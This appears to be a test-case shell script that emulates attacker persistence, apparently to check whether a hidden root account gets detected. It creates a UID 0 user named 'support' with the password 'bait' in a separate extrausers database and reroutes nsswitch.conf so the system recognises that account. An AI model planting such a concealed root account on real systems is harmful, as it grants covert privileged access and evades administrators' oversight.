#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/lib/extrausers
printf 'support:x:0:0::/root:/bin/bash\n' >/var/lib/extrausers/passwd
printf 'support:%s:19700:0:99999:7:::\n' "$(openssl passwd -6 bait)" >/var/lib/extrausers/shadow && chmod 600 /var/lib/extrausers/shadow
test -e /etc/nsswitch.conf || printf 'passwd: files\ngroup: files\nshadow: files\n' >/etc/nsswitch.conf
sed -i -E 's/^(passwd|shadow|group):[[:space:]]+files.*/& extrausers/' /etc/nsswitch.conf
grep -q 'passwd:.*extrausers' /etc/nsswitch.conf
took_place
